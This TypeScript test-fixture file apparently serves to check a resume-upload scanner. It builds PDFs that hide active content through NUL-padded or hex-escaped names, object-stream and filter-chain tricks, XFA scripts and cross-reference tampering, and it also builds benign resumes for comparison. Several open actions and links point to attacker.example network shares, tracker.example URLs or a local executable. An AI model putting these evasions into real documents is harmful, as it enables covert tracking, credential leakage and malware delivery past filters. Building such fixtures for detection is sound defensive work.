/**
 * PDF resumes built in code: ways of hiding active content from a naive scan, each one a reader still
 * acts on, and genuine PDFs with what resumes normally hold (links, bookmarks, a first-page open action).
 * Objects are numbered from 1: the catalog, the page tree, the page, its text, then the extras.
 */
import { deflateSync } from 'node:zlib';
import { pdfWith } from './resume-fixtures';

const text = 'BT /F1 18 Tf 72 720 Td (Jane Applicant - Loan Officer) Tj ET';

/** A one-page PDF; `catalog` and `page` add entries to those dictionaries, `extras` are objects 5, 6... */
export function onePagePdf(parts: { catalog?: string; page?: string; extras?: string[]; trailer?: string } = {}): Buffer {
  return pdfWith(
    [
      `<< /Type /Catalog /Pages 2 0 R ${parts.catalog ?? ''}>>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R ${parts.page ?? ''}>>`,
      `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
      ...(parts.extras ?? []),
    ],
    { trailer: parts.trailer },
  );
}

/** A stream object, its data written as given (Latin-1). */
export const streamObject = (dictionary: string, data: string | Buffer) => {
  const bytes = typeof data === 'string' ? data : data.toString('latin1');
  return `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`;
};

/**
 * An object stream holding `objects` (number and text), compressed with FlateDecode unless `filters`
 * says otherwise; `dictionary` replaces `/Type /ObjStm` (padding or leaving it out).
 */
export function objectStream(objects: Array<[number, string]>, options: { dictionary?: string; encode?: (data: Buffer) => Buffer; filters?: string } = {}): string {
  let header = '';
  let body = '';
  for (const [num, object] of objects) {
    header += `${num} ${body.length} `;
    body += `${object}\n`;
  }
  const data = Buffer.from(header + body, 'latin1');
  const encoded = (options.encode ?? deflateSync)(data);
  return streamObject(`${options.dictionary ?? '/Type /ObjStm'} /N ${objects.length} /First ${header.length} /Filter ${options.filters ?? '/FlateDecode'}`, encoded);
}

/** A script that runs when the file opens, the way most of the fixtures below wire it. */
const openScript = (action: string) => onePagePdf({ catalog: '/OpenAction 5 0 R', extras: [action] });

export const pdfBypasses = {
  /** A NUL is white space to a reader: `/JavaScript\0` is `/JavaScript`. */
  namesEndedByNul: () => openScript("<< /Type /Action /S /JavaScript\0 /JS\0 (app.alert('opened')) >>"),
  /** `#00` decodes to a NUL byte: a reader that stops there sees `/JavaScript`. */
  namesWithEscapedNul: () => openScript("<< /Type /Action /S /JavaScript#00 /JS#00 (app.alert('opened')) >>"),
  /** The script sits in a compressed object stream whose `/Type` comes 6 KB before its data. */
  objectStreamTypeFarFromData: () =>
    onePagePdf({
      catalog: '/OpenAction 6 0 R',
      extras: [objectStream([[6, "<< /S /J#61vaScript /J#53 (app.alert('hidden')) >>"]], { dictionary: `/Type /ObjStm /Producer (${'x'.repeat(6000)})` })],
    }),
  /** Readers need `/N` and `/First`, not `/Type /ObjStm`, to read an object stream. */
  objectStreamWithoutType: () =>
    onePagePdf({ catalog: '/OpenAction 6 0 R', extras: [objectStream([[6, "<< /S /JavaScript /JS (app.alert('hidden')) >>"]], { dictionary: '' })] }),
  /** Two filters in a row: hex digits of deflated data. */
  objectStreamWithFilterChain: () =>
    onePagePdf({
      catalog: '/OpenAction 6 0 R',
      extras: [objectStream([[6, "<< /S /JavaScript /JS (app.alert('hidden')) >>"]], { filters: '[/ASCIIHexDecode /FlateDecode]', encode: (data) => Buffer.from(`${deflateSync(data).toString('hex')}>`) })],
    }),
  /** Deflated rows with a PNG predictor (each row led by its filter type, 0 here). */
  objectStreamWithPredictor: () => {
    const rows = (data: Buffer) => Buffer.concat([...data].map((byte) => Buffer.from([0, byte])));
    return onePagePdf({
      catalog: '/OpenAction 6 0 R',
      extras: [objectStream([[6, "<< /S /JavaScript /JS (app.alert('hidden')) >>"]], { encode: (data) => deflateSync(rows(data)), filters: '/FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>' })],
    });
  },
  /** An XML form: its scripts run in Acrobat, whatever the PDF objects around it say. */
  xfaFormWithScript: () =>
    onePagePdf({
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      extras: [streamObject('/Filter /FlateDecode', deflateSync('<xdp:xdp><template><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("https://tracker.example/opened")</script></event></subform></template></xdp:xdp>'))],
    }),
  /** A web address fetched as soon as the file opens. */
  openActionUri: () => onePagePdf({ catalog: '/OpenAction << /S /URI /URI (https://tracker.example/opened) >>' }),
  openActionUriByReference: () => openScript('<< /S /URI /URI (https://tracker.example/opened) >>'),
  openActionSubmitForm: () => openScript('<< /S /SubmitForm /F << /FS /URL /F (https://tracker.example/collect) >> >>'),
  /** A first-page open action followed by a web address. */
  openActionGoToThenUri: () => openScript('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/opened) >> >>'),
  /** The page's own open action (additional actions). */
  pageOpenUri: () => onePagePdf({ page: '/AA << /O << /S /URI /URI (https://tracker.example/page) >> >>' }),
  opensAnotherFile: () => openScript('<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\cv.pdf) /D [0 /Fit] >>'),
  opensAnEmbeddedFile: () => openScript('<< /S /GoToE /T << /R /C /N (cv.pdf) >> >>'),
  importsFormData: () => openScript('<< /S /ImportData /F (\\\\\\\\attacker.example\\\\share\\\\data.fdf) >>'),
  playsARendition: () => openScript('<< /S /Rendition /OP 0 /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /D (https://tracker.example/a.mp4) >> >> >>'),
  richMediaAnnotation: () => onePagePdf({ page: '/Annots [5 0 R]', extras: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [] >> >> >>'] }),
  soundAnnotation: () => onePagePdf({ page: '/Annots [5 0 R]', extras: ['<< /Type /Annot /Subtype /Sound /Rect [0 0 10 10] /Sound 6 0 R >>', streamObject('/R 8000', 'abc')] }),
  /** A file carried by a file specification's `/EF` (an embedded file stream needs no `/Type`). */
  fileSpecificationCarryingAFile: () =>
    onePagePdf({ page: '/Annots [5 0 R]', extras: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> /FS 6 0 R >>', '<< /Type /Filespec /F (cv.exe) /EF << /F 7 0 R >> >>', streamObject('', 'MZ')] }),
  /** A link whose target is a script, a local file or a network share: clicked, it does not open a web page. */
  linkToScript: () => linkTo('javascript:app.alert(1)'),
  linkToScriptWithTab: () => linkTo('java\\tscript:app.alert(1)'),
  linkToFile: () => linkTo('file:///C:/Windows/System32/calc.exe'),
  linkToShare: () => linkTo('\\\\\\\\attacker.example\\\\share'),
  /** An open action naming object 9, written only inside the page's (uncompressed) text stream. */
  objectHiddenInStreamData: () =>
    onePagePdf({ catalog: '/OpenAction 9 0 R', extras: [streamObject('', '9 0 obj\n<< /S /URI /URI (https://tracker.example/opened) >>\nendobj')] }),
  /** Object 5 placed by the cross-reference table inside `15 0 obj`, where a reader reads `5 0 obj`. */
  crossReferenceIntoAnObjectNumber: () => {
    const filler = Array.from({ length: 10 }, () => '<< >>');
    const pdf = onePagePdf({ catalog: '/OpenAction 5 0 R', extras: ['[3 0 R /Fit]', ...filler, '<< /S /URI /URI (https://tracker.example/opened) >>'] });
    return withCrossReference(pdf, 5, pdf.indexOf('\n15 0 obj') + 2);
  },
  encrypted: () => onePagePdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (0123456789abcdef0123456789abcdef) /U (0123456789abcdef0123456789abcdef) /P -4 >>' }),
  deeplyNested: () => onePagePdf({ extras: [`${'['.repeat(50_000)}${']'.repeat(50_000)}`] }),
};

/** A page with one link annotation whose action opens `target` (written inside a literal string). */
export const linkTo = (target: string) =>
  onePagePdf({ page: '/Annots [5 0 R]', extras: [`<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /Border [0 0 0] /A << /S /URI /URI (${target}) >> >>`] });

/** A resume as PDF writers make them: links to the web, mail and phone, a link within, bookmarks, open on page 1. */
export function pdfWithLinksAndBookmarks(): Buffer {
  const link = (rect: string, action: string) => `<< /Type /Annot /Subtype /Link /Rect [${rect}] /Border [0 0 0] /A ${action} >>`;
  return onePagePdf({
    catalog: '/OpenAction 9 0 R /Outlines 10 0 R /PageMode /UseOutlines /URI << /Base (https://jane.example/) >>',
    page: '/Annots [5 0 R 6 0 R 7 0 R 8 0 R]',
    extras: [
      link('72 700 200 720', '<< /S /URI /URI (https://www.linkedin.com/in/jane-applicant) >>'),
      link('72 680 200 700', '<< /Type /Action /S /URI /URI <6D61696C746F3A6A616E65406578616D706C652E636F6D> >>'),
      link('72 660 200 680', '<< /S /URI /URI (tel:+12485550190) >>'),
      link('72 640 200 660', '<< /S /GoTo /D [3 0 R /XYZ 0 792 0] >>'),
      '[3 0 R /Fit]',
      '<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>',
      '<< /Title (Skills: Python/JavaScript, C/C++) /Parent 10 0 R /Dest [3 0 R /Fit] >>',
    ],
  });
}

/** Rewrites the cross-reference entry of object `num` to point at `offset`. */
function withCrossReference(pdf: Buffer, num: number, offset: number): Buffer {
  const table = pdf.indexOf('xref\n') + 'xref\n'.length;
  const firstEntry = pdf.indexOf('\n', table) + 1;
  const copy = Buffer.from(pdf);
  copy.write(String(offset).padStart(10, '0'), firstEntry + num * 20, 'latin1');
  return copy;
}
